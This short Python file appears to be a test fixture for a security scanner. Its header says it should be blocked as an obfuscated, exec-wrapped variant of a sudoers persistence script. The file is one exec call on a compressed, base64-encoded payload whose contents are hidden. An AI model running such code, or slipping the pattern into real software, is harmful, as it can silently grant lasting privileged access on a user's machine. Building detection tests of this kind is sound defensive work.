# expect: BLOCKED category: persistence variant-of: risky/persistence/sudoers.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJwVijELwjAQRvf+iiMuyWAyV3AoCC6lFjq4CBLbEwNNUu5Oq//edPgefI+3gzP5JAz4QfrlhLB45jXTNCMz8HvKtnpSjsXLaw4PCHHJJNCXW1UbtXIoo9tSJLaTq+t99CEJJp9GVMauFATvgl/RqmlbKDvqAgPdpW+G4Xo6bO6WlPkDdA8wTA==')))
